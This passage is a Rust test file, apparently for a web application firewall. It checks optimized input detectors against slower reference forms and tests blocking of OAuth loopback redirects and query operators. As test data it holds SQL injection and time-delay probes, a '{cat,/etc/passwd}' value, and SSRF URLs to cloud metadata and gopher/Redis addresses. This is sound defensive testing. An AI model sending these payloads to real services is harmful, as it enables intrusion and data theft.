        // The argument of a control word: `\name{` or `\name[options]{`.
        let mut k = i;
        if k > 0 && v[k - 1] == b']' {
            let Some(o) = v[..k - 1].iter().rposition(|&b| b == b'[' || b == b'\n') else { return false };
            if v[o] != b'[' {
                return false;
            }
            k = o;
        }
        let n = v[..k].iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
        if n < 2 || k < n + 1 || v[k - n - 1] != b'\\' {
            return false;
        }
    }
    true
}

#[test]
fn tex_arguments_agrees_with_its_rescanning_form() {
    // Values made of pieces of TeX source and brace lists, chosen at random, most after three
    // control words (which the check needs before it reads any list).
    const PIECES: [&str; 16] =
        ["\\cite", "\\ab", "{", "a", ",", "}", "[", "]", " ", "\n", "b,c}", "[x]", "{a,b}", "\\", "$", "~"];
    let mut values: Vec<Vec<u8>> = normalize::random_values(0x7e_c0_de, 30_000, 20, |_, r| r as u8)
        .enumerate()
        .map(|(n, picks)| {
            let mut v = if n % 4 == 0 { Vec::new() } else { b"\\aa{x} \\bb{y} \\cc[z]{w} ".to_vec() };
            v.extend(picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()));
            v
        })
        .collect();
    for v in [
        "\\documentclass[review]{elsarticle} \\usepackage{amsmath,graphicx} \\section{a}",
        "\\aa{x} \\bb{x} \\cite[x]{a,b}]{a,b}]{c,d}",
        "\\aa{x} \\bb{x} \\cite{a,b} {a,{a,{a,",
        "\\aa{x} \\bb{x} \\cc{x} {cat,/etc/passwd}",
        "\\aa{x} \\bb{x} \\cc{x}\n[x]{a,b}",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let mut yes = 0;
    let mut no_after_words = 0;
    for v in &values {
        let expected = tex_arguments_by_rescanning(v);
        assert_eq!(context::tex_arguments(v), expected, "{:?}", String::from_utf8_lossy(v));
        yes += usize::from(expected);
        no_after_words += usize::from(!expected && v.starts_with(b"\\aa{x}"));
    }
    assert!(yes > 100 && no_after_words > 100, "{yes} TeX values, {no_after_words} not: both outcomes are reached");
}

/// The first form of `context::sql_breakout`: at every `;` that ends a line before a statement it
/// asked again whether the value starts with a statement, skipping the value's leading comments
/// each time: quadratic on a script after many comment lines (`--a` lines, then `select a from
/// t;` lines: 800 KB took 6.9 s natively). The reference the form that asks once must agree with.
fn sql_breakout_by_rescanning(v: &[u8]) -> bool {
    let opener = |b: u8| {
        b.is_ascii_whitespace()
            || matches!(
                b,
                b'(' | b',' | b'=' | b'<' | b'>' | b'!' | b'~' | b':' | b'[' | b'{' | b'+' | b'*' | b'|' | b'&'
            )
    };
    // What may follow a closed string: a space, punctuation, or an operator (`'a'||'b'`,
    // `">="&DATE(…)`), or a bracket after a quoted name. A `;` ends the statement; a statement
    // stacked after it is caught below.
    let after = |b: u8| {
        b.is_ascii_whitespace()
            || matches!(
                b,
                b')' | b','
                    | b'['
                    | b']'
                    | b'}'
                    | b':'
                    | b'='
                    | b'<'
                    | b'>'
                    | b'!'
                    | b'.'
                    | b'?'
                    | b'&'
                    | b'|'
                    | b'+'
                    | b'*'
                    | b'^'
                    | b'%'
                    | b';'
            )
    };
    let mut depth = 0i32;
    let mut i = 0;
    while i < v.len() {
        let b = v[i];
        match b {
            b'\'' | b'"' | b'`' => {
                let prev = i.checked_sub(1).map(|p| v[p]);
                let next = v.get(i + 1).copied();
                if b == b'\''
                    && prev.is_some_and(|p| p.is_ascii_alphabetic())
                    && next.is_some_and(|n| n.is_ascii_alphabetic())
                    && !context::AFTER_QUOTE.contains(&context::letters(&v[i + 1..]))
                {
                    i += 1;
                    continue;
                }
                // A quoted identifier qualified by another (`"reports"."id"`, `` `db`.`t` ``).
                let qualified = prev == Some(b'.') && i >= 2 && v[i - 2] == b;
                let dashes = v[i + 1..].iter().take_while(|&&c| c == b'-').count();
                let dash = dashes > 0 && !v.get(i + 1 + dashes).is_some_and(|c| c.is_ascii_alphabetic());
                let hash = next == Some(b'#') && v.get(i + 2).is_none_or(|c| c.is_ascii_whitespace());
                let semicolon_literal = next == Some(b';') && v.get(i + 2) == Some(&b);
                if prev.is_some_and(|p| !opener(p)) && !qualified
                    || next.is_some_and(|n| n.is_ascii_whitespace() || n == b')' || (n == b';' && !semicolon_literal))
                    || dash
                    || hash
                {
                    return true;
                }
                let mut j = i + 1;
                let mut close = None;
                while j < v.len() {
                    if v[j] == b'\\' {
                        j += 2;
                    } else if v[j] == b {
                        if v.get(j + 1) == Some(&b) {
                            j += 2;
                        } else {
                            close = Some(j);
                            break;
                        }
                    } else {
                        j += 1;
                    }
                }
                let Some(j) = close else { return true };
                if v.get(j + 1).is_some_and(|&n| !after(n)) {
                    return true;
                }
                i = j + 1;
                continue;
            }
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth < 0 {
                    return true;
                }
            }
            b';' => {
                let rest = v[i + 1..].trim_ascii_start();
                // In an SQL script (the value starts with a statement) a `;` that ends its line
                // ends one statement of the script, not a string or a number it breaks out of.
                // The same in a script set in text (a question quoting its tables): the `;`
                // ends a statement that starts a line of its own (`…defs:\n\nCREATE TABLE …;`).
                let line_end = v[i + 1..].iter().take_while(|b| b.is_ascii_whitespace()).any(|&b| b == b'\n');
                let own_line = || {
                    let start = v[..i].iter().rposition(|&b| b == b';').map_or(0, |p| p + 1);
                    v[start..i].split(|&b| b == b'\n').skip(1).any(context::sql_script)
                };
                if context::STACKED.contains(&context::letters(rest))
                    && !context::compound_word(rest)
                    && !(line_end && (context::sql_script(v) || own_line()))
                {
                    return true;
                }
            }
            b'0' if v.get(i + 1) == Some(&b'x')
                && v[i + 2..].iter().take_while(|b| b.is_ascii_hexdigit()).count() >= 6 =>
            {
                return true;
            }
            _ => {}
        }
        i += 1;
    }
    depth > 0
}

#[test]
fn sql_breakout_agrees_with_its_rescanning_form() {
    // Values made of pieces of SQL scripts, comments and breakouts, chosen at random.
    const PIECES: [&str; 16] = [
        "select a from t",
        ";",
        "\n",
        "--a\n",
        "/*x*/",
        "'",
        "x",
        " ",
        "(",
        ")",
        "update t set a = 1",
        "begin",
        "o'reilly",
        "0x414243",
        "'a'",
        "drop table t",
    ];
    let mut values: Vec<Vec<u8>> = normalize::random_values(0x5e_1e_c7, 30_000, 16, |_, r| r as u8)
        .map(|picks| picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()).collect())
        .collect();
    for v in [
        "--a\n--b\nselect a from t;\nselect b from t;\n",
        "begin;\nupdate t set a = 1;\ncommit;",
        "1;\nupdate t set a = 1",
        "see the defs:\n\ncreate table t (a int);\ndrop table t;\n",
        "x' or 1=1 --",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let mut yes = 0;
    for v in &values {
        let expected = sql_breakout_by_rescanning(v);
        assert_eq!(context::sql_breakout(v), expected, "{:?}", String::from_utf8_lossy(v));
        yes += usize::from(expected);
    }
    assert!(
        yes > 1000 && values.len() - yes > 1000,
        "{yes} of {} values break out: both outcomes are reached",
        values.len()
    );
}

/// The first form of `context::only_named_tags`: for every `<style>` it looked back over the whole
/// value before it for the last `<head` and forward from there for a `</head`, and for every
/// `<meta charset>` it looked for a `<head` from the start: quadratic on a head of many inert
/// stylesheets (800 KB took 13.6 s natively) or many charset declarations after a long text
/// (3.9 s). The reference the form that reads the head once must agree with.
fn only_named_tags_by_rescanning(v: &[u8]) -> bool {
    let mut i = 0;
    let mut seen = false;
    while let Some(p) = v[i..].iter().position(|&b| b == b'<') {
        let s = i + p + 1;
        let Some(&first) = v.get(s) else { return seen };
        if v[s..].starts_with(b"!--") {
            let Some(e) = v[s + 3..].windows(3).position(|w| w == b"-->") else { return false };
            let body = &v[s + 3..s + 3 + e];
            if body.contains(&b'<') || body.contains(&b'[') {
                return false;
            }
            seen = true;
            i = s + 3 + e + 3;
            continue;
        }
        // A document type declaration (`<!doctype html>`, or one quoted in an error message:
        // `unexpected token '<', "<!doctype "... is not valid json`) declares, it cannot act.
        if v[s..].starts_with(b"!doctype") && v.get(s + 8).is_none_or(|b| b.is_ascii_whitespace()) {
            let rest = &v[s + 8..];
            let end = rest.iter().position(|&b| b == b'>' || b == b'<').unwrap_or(rest.len());
            seen = true;
            i = s + 8 + end;
            continue;
        }
        if v[s..].starts_with(b"?xml") && v.get(s + 4).is_some_and(|b| b.is_ascii_whitespace()) {
            let Some(e) = v[s..].windows(2).position(|w| w == b"?>") else { return false };
            if v[s..s + e].contains(&b'<') || !context::tag_attributes(&v[s + 4..s + e], context::Attributes::Ordinary)
            {
                return false;
            }
            seen = true;
            i = s + e + 2;
            continue;
        }
        let closing = first == b'/';
        let ns = if closing { s + 1 } else { s };
        let n = v[ns..].iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
        if n == 0 || !v[ns].is_ascii_alphabetic() {
            if closing || matches!(first, b'!' | b'?') {
                return false;
            }
            // `a < b`, `<3`, `<=`: not a tag.
            i = s;
            continue;
        }
        // An address in angle brackets (`Tom <tom@example.net>`) is text, not a tag.
        if !closing && v.get(ns + n) == Some(&b'@') {
            let end = v[ns + n..].iter().position(|&b| !(b.is_ascii_alphanumeric() || b"@.-_+".contains(&b)));
            if let Some(e) = end.filter(|&e| v[ns + n + e] == b'>') {
                i = ns + n + e + 1;
                continue;
            }
        }
        let name = &v[ns..ns + n];
        let active = context::ACTIVE_ELEMENTS.contains(&name);
        let Some(gt) = v[ns + n..].iter().position(|&b| b == b'>').map(|g| ns + n + g) else { return false };
        let attrs = &v[ns + n..gt];
        if closing {
            if active || !attrs.trim_ascii().is_empty() {
                return false;
            }
        } else if active {
            // A tag quoted as code (`` `<input type="email">` ``) may be followed by its quote.
            let quote = (i + p).checked_sub(1).map(|q| v[q]).filter(|q| matches!(q, b'`' | b'"' | b'\''));
            // So may a tag that is the whole text of a code element (`<code>&lt;select&gt;</code>`
            // in rich text, decoded): it is followed by the element's closing tag, not content.
            let in_code = [&b"code"[..], b"kbd", b"samp", b"tt"].iter().any(|c| {
                let before = &v[..i + p];
                let after = &v[gt + 1..];
                before.len() > c.len() + 1
                    && before.ends_with(b">")
                    && before[..before.len() - 1].ends_with(c)
                    && before[..before.len() - 1 - c.len()].ends_with(b"<")
                    && after.len() > c.len() + 2
                    && after.starts_with(b"</")
                    && after[2..].starts_with(c)
                    && after[2 + c.len()] == b'>'
            });
            // A stylesheet in the head of a document the value holds (an HTML template rendered to
            // PDF or sent as e-mail) that only sets typography, colours, boxes and the page (see
            // [`inert_stylesheet`]) cannot act: the element is read with its content.
            if name == b"style" && quote.is_none() {
                let head = v[..i + p]
                    .windows(6)
                    .rposition(|w| w.starts_with(b"<head") && matches!(w[5], b'>' | b' ' | b'\t' | b'\n'));
                let body = &v[gt + 1..];
                let end = body.windows(8).position(|w| w == b"</style>");
                match (head, end) {
                    (Some(h), Some(e))
                        if !v[h..i + p].windows(6).any(|w| w == b"</head")
                            && context::tag_attributes(attrs, context::Attributes::OnActive)
                            && context::inert_stylesheet(&body[..e]) =>
                    {
                        seen = true;
                        i = gt + 1 + e + 8;
                        continue;
                    }
                    _ => return false,
                }
            }
            let allowed =
                if quote.is_some() || in_code { context::Attributes::Labels } else { context::Attributes::OnActive };
            // A `<meta>` that names a property (`<meta name="viewport" content="…">`) or declares
            // the charset of the document it heads (an e-mail template) is void and inert: a meta
            // acts with `http-equiv` (refresh, cookies, policy) or a charset in a page's body.
            // A charset is declared only in the head of a document the value holds (a `<meta
            // charset>` injected into a page re-decodes it).
            let meta = name == b"meta"
                && context::tag_attributes(attrs, context::Attributes::Meta)
                && (!attrs.windows(7).any(|w| w == b"charset") || v[..i + p].windows(5).any(|w| w == b"<head"));
            // A self-closed tag (`<x id="1"/>`, an inline placeholder of a translation) has no
            // content: what follows is not its content, unless the element is raw text.
            let self_closed =
                meta || attrs.trim_ascii_end().ends_with(b"/") && !context::RAW_TEXT_ELEMENTS.contains(&name);
            if !(meta || context::tag_attributes(attrs, allowed))
                || !self_closed
                    && !in_code
                    && v.get(gt + 1).is_some_and(|&b| {
                        !(b.is_ascii_whitespace()
                            || matches!(b, b':' | b',' | b'.' | b'?' | b'!' | b')')
                            || Some(b) == quote)
                    })
            {
                return false;
            }
        } else if !context::tag_attributes(attrs, context::Attributes::Ordinary) {
            return false;
        }
        seen = true;
        i = gt + 1;
    }
    seen
}

#[test]
fn only_named_tags_agrees_with_its_rescanning_form() {
    // Values made of pieces of HTML documents, chosen at random: heads, inert and active
    // stylesheets, charset declarations, ordinary and active tags, text.
    const PIECES: [&str; 16] = [
        "<head>",
        "</head>",
        "<style>p{color:red}</style>",
        "<style>p{background:url(x)}</style>",
        "<meta charset=\"utf-8\">",
        "<meta name=\"viewport\" content=\"x\">",
        "<p>",
        "</p>",
        "text ",
        "<head ",
        "<script>",
        "<!-- c -->",
        "<html>",
        "<b class=x>",
        "<style>",
        " ",
    ];
    let mut values: Vec<Vec<u8>> = normalize::random_values(0x4ead5, 30_000, 12, |_, r| r as u8)
        .map(|picks| picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()).collect())
        .collect();
    for v in [
        "<html><head><style>p{color:red}</style><style>b{color:blue}</style></head><body>x</body></html>",
        "<html><head></head><style>p{color:red}</style>",
        "<head><meta charset=\"utf-8\"><meta charset=\"utf-8\"></head>",
        "<meta charset=\"utf-8\"><head>",
        "<p>see <style> and <script></p>",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let (mut yes, mut styled_yes, mut styled_no) = (0, 0, 0);
    for v in &values {
        let expected = only_named_tags_by_rescanning(v);
        assert_eq!(context::only_named_tags(v), expected, "{:?}", String::from_utf8_lossy(v));
        yes += usize::from(expected);
        let styled = v.windows(9).any(|w| w == b"<style>p{");
        styled_yes += usize::from(expected && styled);
        styled_no += usize::from(!expected && styled);
    }
    assert!(styled_yes > 20 && styled_no > 20, "{styled_yes} inert stylesheets in a head, {styled_no} not");
    assert!(
        yes > 1000 && values.len() - yes > 1000,
        "{yes} of {} values are named tags: both outcomes are reached",
        values.len()
    );
}

/// The first form of `xml::attributes`: it wrote the element's name again into the target name
/// of every attribute, quadratic in a long element name with many attributes (a 500 KB name
/// and 75,000 `b=1` took 0.77 s natively, most of it copying). The reference the form that
/// writes the element's name once must agree with.
fn xml_attributes_by_rescanning(mut s: &[u8], element: &[u8], sink: &mut dyn targets::Sink) {
    let mut name_buf = Vec::new();
    while let Some(eq) = s.iter().position(|&b| b == b'=') {
        let name = s[..eq].rsplit(|b| b.is_ascii_whitespace()).next().unwrap_or(b"");
        let after = &s[eq + 1..];
        let after = &after[after.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(after.len())..];
        let (value, rest) = match after.first() {
            Some(&q) if q == b'"' || q == b'\'' => {
                let end = after[1..].iter().position(|&b| b == q).map_or(after.len(), |p| p + 1);
                (&after[1..end], after.get(end + 1..).unwrap_or(b""))
            }
            _ => {
                let end = after.iter().position(|b| b.is_ascii_whitespace()).unwrap_or(after.len());
                (&after[..end], &after[end..])
            }
        };
        name_buf.clear();
        name_buf.extend_from_slice(element);
        name_buf.push(b'@');
        name_buf.extend_from_slice(name);
        if !sink.value(rules::class::ARG_VALUE, targets::TargetName::new("xml:", &name_buf), value) {
            return;
        }
        s = rest;
    }
}

#[test]
fn xml_attributes_agree_with_their_rescanning_form() {
    // Attribute lists made of random pieces: names, `=`, quoted and bare values, spaces.
    struct Collect(Vec<(u16, String, Vec<u8>, Vec<u8>)>, usize);
    impl targets::Sink for Collect {
        fn value(&mut self, classes: u16, name: targets::TargetName<'_>, value: &[u8]) -> bool {
            self.0.push((classes, name.render(), name.key().into_owned(), value.to_vec()));
            // Sometimes the budget runs out part way.
            self.0.len() < self.1
        }
    }
    const PIECES: [&str; 12] = [" ", "a", "xml:lang", "=", "\"", "'", "1", "x y", "\t", "/", ">", "b"];
    let values: Vec<Vec<u8>> = normalize::random_values(0xa7_7e5, 20_000, 24, |_, r| r as u8)
        .map(|picks| picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()).collect())
        .collect();
    let mut delivered = 0;
    for (n, v) in values.iter().enumerate() {
        for element in [&b"item"[..], b"", b"a:b"] {
            let limit = if n % 3 == 0 { 2 } else { usize::MAX };
            let (mut old, mut new) = (Collect(Vec::new(), limit), Collect(Vec::new(), limit));
            xml_attributes_by_rescanning(v, element, &mut old);
            xml::attributes(v, element, &mut new);
            assert_eq!(new.0, old.0, "{:?}", String::from_utf8_lossy(v));
            delivered += usize::from(old.0.len() > 1);
        }
    }
    assert!(delivered > 1000, "{delivered} lists delivered two attributes or more");
}

/// The first form of `multipart::split`: it compared the delimiter with the body at every byte, so
/// a long boundary of one repeated byte (32 KB of `-` and an `x`) against a body of that byte cost
/// the boundary's length at every byte (an 800 KB body took 0.53 s natively). The reference the
/// linear-time search must agree with.
fn multipart_split_by_rescanning<'a>(body: &'a [u8], delimiter: &'a [u8]) -> impl Iterator<Item = &'a [u8]> + 'a {
    let mut rest = Some(body);
    std::iter::from_fn(move || {
        let r = rest?;
        match r.windows(delimiter.len()).position(|w| w == delimiter) {
            Some(i) => {
                rest = Some(&r[i + delimiter.len()..]);
                Some(&r[..i])
            }
            None => {
                rest = None;
                Some(r)
            }
        }
    })
}

#[test]
fn multipart_split_agrees_with_its_rescanning_form() {
    // Bodies and delimiters over a small alphabet, so delimiters are found, overlap and repeat.
    const BYTES: &[u8] = b"--ab\r\n";
    let bodies: Vec<Vec<u8>> =
        normalize::random_values(0x3a_47_9a, 20_000, 48, |_, r| BYTES[r % BYTES.len()]).collect();
    let delimiters: Vec<Vec<u8>> =
        normalize::random_values(0xde_11, 20_000, 6, |_, r| BYTES[r % BYTES.len()]).filter(|d| !d.is_empty()).collect();
    let mut split_somewhere = 0;
    for (body, delimiter) in bodies.iter().zip(delimiters.iter().cycle()) {
        let old: Vec<&[u8]> = multipart_split_by_rescanning(body, delimiter).collect();
        let new: Vec<&[u8]> = multipart::split(body, delimiter).collect();
        assert_eq!(new, old, "{:?} by {:?}", String::from_utf8_lossy(body), String::from_utf8_lossy(delimiter));
        split_somewhere += usize::from(old.len() > 1);
    }
    assert!(split_somewhere > 1000, "{split_somewhere} bodies had a delimiter");
}

/// The first form of `context::document_uris` (rule 3502's evidence): for every URI it searched
/// the rest of the value for the end of the path and for `..`, and a path runs to the end of the
/// value when no space or quote ends it, so a form field of `…file:///…` units cost the rest of
/// the value per URI (50 / 200 / 800 KB took 0.04 / 0.38 / 3.7 s beyond process start at PL2;
/// found by the `waf_growth` fuzz target). The reference the one-pass form must agree with.
fn document_uris_by_rescanning(v: &[u8]) -> bool {
    static RE: std::sync::OnceLock<Option<regex::bytes::Regex>> = std::sync::OnceLock::new();
    let Some(re) = RE
        .get_or_init(|| {
            regex::bytes::RegexBuilder::new(
                r"\b(?:gopher|dict|ldap|ldaps|tftp|netdoc|jar|sftp|smb|file|ssh|telnet|rmi|iiop|mailto|jdbc)\s*:",
            )
            .unicode(false)
            .build()
            .ok()
        })
        .as_ref()
    else {
        return false;
    };
    const SYSTEM: [&[u8]; 24] = [
        b"etc", b"proc", b"sys", b"dev", b"var", b"root", b"boot", b"bin", b"sbin", b"usr", b"lib", b"lib32", b"lib64",
        b"run", b"tmp", b"mnt", b"media", b"snap", b"private", b"system", b"library", b"windows", b"cores", b"opt",
    ];
    let mut any = false;
    for m in re.find_iter(v) {
        let Some(rest) = v[m.start()..].strip_prefix(b"file:///") else { return false };
        let end = rest
            .iter()
            .position(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'<' | b'>' | b'`'))
            .unwrap_or(rest.len());
        let path = &rest[..end];
        if path.windows(2).any(|w| w == b"..") {
            return false;
        }
        let mut segments = path.split(|&b| b == b'/');
        let mut first = segments.next().unwrap_or_default();
        if first.len() == 2 && first[0].is_ascii_alphabetic() && first[1] == b':' {
            // A drive: only a user's folder (`c:/users/…`) is a document's place.
            if segments.next() != Some(b"users".as_slice()) {
                return false;
            }
            first = b"users";
        }
        if first.is_empty() || SYSTEM.contains(&first) {
            return false;
        }
        any = true;
    }
    any
}

#[test]
fn document_uris_agrees_with_its_rescanning_form() {
    // Values made of URIs of each kind (documents, system directories, hosts, drives, other
    // schemes), path pieces, `..`, dots and the bytes that end a path, joined at random, often
    // with nothing between them so that paths run on over later URIs.
    const PIECES: [&str; 22] = [
        "file:///",
        "file:///",
        "file:///home/ana/",
        "file:///etc/",
        "file:///c:/users/",
        "file:///c:/windows/",
        "file://server/",
        "gopher://x/",
        "ldap:",
        "file :",
        "notes.md",
        "src/",
        "/",
        "..",
        ".",
        "a",
        " ",
        "\"",
        "'",
        "<",
        "`",
        "\n",
    ];
    let values: Vec<Vec<u8>> = normalize::random_values(0xd0c_0e1, 40_000, 14, |_, r| r as u8)
        .map(|picks| picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()).collect())
        .collect();
    let (mut yes, mut several) = (0, 0);
    for v in &values {
        let expected = document_uris_by_rescanning(v);
        assert_eq!(context::document_uris(v), expected, "{:?}", String::from_utf8_lossy(v));
        yes += usize::from(expected);
        several += usize::from(expected && v.windows(8).filter(|w| w == b"file:///").count() > 1);
    }
    assert!(yes > 1000 && values.len() - yes > 1000, "{yes} of {} values are documents' URIs", values.len());
    assert!(several > 200, "{several} values with several documents' URIs");
}

/// The SQL tokenizer's work on a word grows with the word's length times its `.` and `` ` ``
/// (`sql_tokenizer_work`): a value past the bound is not handed to it and counts as its match
/// (fail closed); ordinary values, long ones included, stay far under the bound.
#[test]
fn the_sql_tokenizer_is_not_handed_words_it_would_read_in_quadratic_time() {
    use super::{sql_tokenizer_work, SQL_TOKENIZER_WORK};
    // Ordinary text, dotted names and long tokens: about their length.
    let prose = "Please ship it to the front desk. Thanks, it's a gift! ".repeat(20_000);
    assert!(sql_tokenizer_work(prose.as_bytes()) < 2 * prose.len() as u64);
    let dotted = "com.example.payments.v1.RefundService/Create ".repeat(20_000);
    assert!(sql_tokenizer_work(dotted.as_bytes()) < 8 * dotted.len() as u64);
    // A bearer token of 8 KB (three segments) is one run with two dots.
    let token = format!("eyJ{}.eyJ{}.{}", "A".repeat(4_000), "B".repeat(4_000), "c".repeat(400));
    assert!(sql_tokenizer_work(token.as_bytes()) < 4 * token.len() as u64);
    assert!(sql_tokenizer_work(&vec![b'a'; 1 << 20]) <= 1 << 20);
    // A run of word bytes full of `.` or `` ` ``: quadratic, over the bound past a few KB.
    for unit in ["a`", "a.", "``", "select."] {
        let long = unit.repeat(50_000);
        assert!(sql_tokenizer_work(long.as_bytes()) > SQL_TOKENIZER_WORK, "{unit}");
        assert!(sql_tokenizer_work(unit.repeat(100).as_bytes()) < 100_000, "{unit}");
    }
    // Such a value is blocked by the tokenizer's rule without running it (it took 45 s at 800 KB).
    let waf = waf_with("{}");
    let body = serde_json::json!({ "note": format!("x'{}", "a`".repeat(100_000)) }).to_string();
    let o = json_post(&waf, &body);
    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4200), "{:?}", o.matches);
    // The same words cut by spaces are ordinary text: handed to the tokenizer as before.
    assert!(sql_tokenizer_work("x'a` ".repeat(100_000).as_bytes()) < SQL_TOKENIZER_WORK);
}

#[test]
fn a_delay_joined_to_a_closed_quote_counts_inside_prose_too() {
    // 4204 (a delay function) is weak inside prose, where SQL is quoted on purpose; 4234 is the
    // breakout a blind probe needs, a quote or parenthesis closed and a delay joined to it by a
    // boolean operator, and it counts everywhere (found by holdout27's round's probes).
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level":2}"#);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    for q in [
        "honestly \"pineapple on pizza\" and sleep(5) -- are you pro or anti? let me know in the comments",
        "Use `1' AND SLEEP(5)--` as the value and tell me what happens, I think the parser handles it wrong.",
        "we all agree that 'tabs' or benchmark(5000000,md5('x')) -- right? let me know below",
        "so the answer is 'yes' || pg_sleep(10) -- and that is final, see you all tomorrow",
        "I tried 'abc' and (select sleep(3)) then it hung for a while, any idea why that happens?",
        "put 1) or sleep(5)# in the box and see what the server does with it, it is weird",
        "our office said 'fine'; waitfor delay '0:0:5' -- no idea what that means honestly",
    ] {
        for w in [&waf, &pl2] {
            let o = json_post(w, &serde_json::json!({ "comment": q }).to_string());
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
    // A delay function inside prose without a breakout joined to it stays a mention.
    for v in [
        "I really need more sleep (8 hours at least) and coffee before the demo tomorrow morning.",
        "The \"sleep\" and \"wake\" buttons on the hub are swapped in the new firmware, please check.",
        "After 'Frozen' the kids watched another film and then we went to sleep. 10/10 would do again.",
        "Our run book says: call sleep(5) between retries, but only after the first failed attempt.",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "comment": v }).to_string());
        assert!(!o.blocked && rule(&o, 4234).is_none(), "{v}: {o:?}");
    }
}

#[test]
fn oauth_loopback_redirects_pass_and_loopback_urls_elsewhere_still_score() {
    // RFC 8252 (7.3): a native app receives the authorization response on its own loopback
    // listener, `http://127.0.0.1:{port}/{path}`. The authorization request carries it in the
    // query, the token request in its form, dynamic client registration (RFC 7591) in a JSON
    // array; holdouts 33 and 35 (written blind) had the first two.
    let waf = waf_with("{}");
    let form = "application/x-www-form-urlencoded";
    for t in [
        "/oauth2/authorize?response_type=code&client_id=desktop-cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2Fcallback&code_challenge=E9Melhoe2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&state=af0ifjsldkj",
        "/logout?post_logout_redirect_uri=http%3A%2F%2Flocalhost%3A3000%2F",
    ] {
        let o = outcome(&waf, t);
        assert!(!o.blocked && o.matches.is_empty(), "{t}: {o:?}");
    }
    for body in [
        "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2Fcallback&client_id=desktop-cli&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        "grant_type=authorization_code&code=abc&redirect_uri=http%3A%2F%2F127.0.0.1%3A8111%2Foauth_authorization",
    ] {
        let o = post("/oauth2/token", form, body, &waf);
        assert!(!o.blocked && o.matches.is_empty(), "{body}: {o:?}");
    }
    let reg = r#"{"client_name":"Desktop CLI","application_type":"native","redirect_uris":["http://127.0.0.1/callback","http://localhost:8400/done"],"token_endpoint_auth_method":"none"}"#;
    let o = json_post(&waf, reg);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");

    // Loopback URLs as any other argument, in other shapes, or to metadata addresses: as before.
    for t in [
        "/fetch?url=http://127.0.0.1:8765/callback",
        "/oauth2/authorize?request_uri=http://127.0.0.1:8080/admin",
        "/oauth2/authorize?callback=http://127.0.0.1:6379/",
        "/oauth2/authorize?redirect_uri=http://127.0.0.2:8765/callback",
        "/oauth2/authorize?redirect_uri=http://0:8080/admin",
        "/oauth2/authorize?redirect_uri=http://localtest.me:8080/admin",
        "/oauth2/authorize?redirect_uri=gopher://127.0.0.1:6379/_INFO",
        "/oauth2/authorize?redirect_uri=http://127.0.0.1:80@169.254.169.254/latest/meta-data/",
        "/oauth2/authorize?redirect_uri=http://169.254.169.254/latest/meta-data/",
        "/oauth2/authorize?redirect_uri=http://127.0.0.1:123456/",
        "/oauth2/authorize?redirect_uri=ftp://127.0.0.1/x",
    ] {
        assert!(outcome(&waf, t).blocked, "{t}");
    }
    let o = post(
        "/oauth2/token",
        form,
        "grant_type=authorization_code&code=abc&target=http%3A%2F%2F127.0.0.1%3A8765%2F",
        &waf,
    );
    assert!(o.blocked, "{o:?}");
    let o = json_post(&waf, r#"{"client_name":"x","jwks_uri":"http://127.0.0.1:8080/keys"}"#);
    assert!(o.blocked, "{o:?}");
    // At PL2 the off-site URL rule (3150) reads it alike.
    let pl2 = waf_with(r#"{"paranoia_level": 2}"#);
    let t = "/oauth2/authorize?response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2Fcallback";
    let o = outcome(&pl2, t);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    assert!(outcome(&pl2, "/fetch?next=http://127.0.0.1:8765/callback").blocked);
    assert!(!loopback_redirect(b"url", b"http://127.0.0.1:8765/callback"));
    assert!(loopback_redirect(b"$.client.redirect_uris[3]", b"http://127.0.0.1:8765/callback"));
    // The IPv6 loopback is the same redirect to 3100 and 3501 (`http://[::1]:…` still meets the
    // glob rule 3205 by its `//[:`, left as it is: a bracket glob after `/` is that rule's shape).
    assert!(loopback_redirect(b"redirect_uri", b"http://[::1]:51004/"));
    assert!(!loopback_redirect(b"redirect_uri", b"http://127.0.0.1:8765/a b"));
    assert!(!loopback_redirect(b"redirect_uri", b"http://127.0.0.1:/cb"));
    assert!(!loopback_redirect(b"redirect_uri", b"http://127.0.0.1.evil.example/cb"));
}

#[test]
fn query_operators_inside_a_query_document_pass_and_operators_in_place_of_values_still_score() {
    // Holdout41 (written blind) had a document-database console: operators under `filter`,
    // `pipeline[0].$match`, `selector`, `partialFilterExpression`; holdout38 a mock server's
    // `match`, holdout31 Nightscout's `find[date][$gte]=`. Strapi's REST filters take
    // `filters[title][$eq]=`. And a browser extension's message placeholder `$TEXT$`.
    let waf = waf_with("{}");
    for body in [
        r#"{"filter":{"createdAt":{"$lt":"2025-11-01T00:00:00Z"},"status":{"$in":["paid","shipped"]}},"sort":{"createdAt":-1},"limit":50}"#,
        r#"{"pipeline":[{"$match":{"status":{"$in":["paid","refunded"]},"total":{"$gte":100}}},{"$group":{"_id":"$country","n":{"$sum":1}}}]}"#,
        r#"{"filter":{"customer.email":{"$regex":"@example\\.org$","$options":"i"}},"projection":{"email":1}}"#,
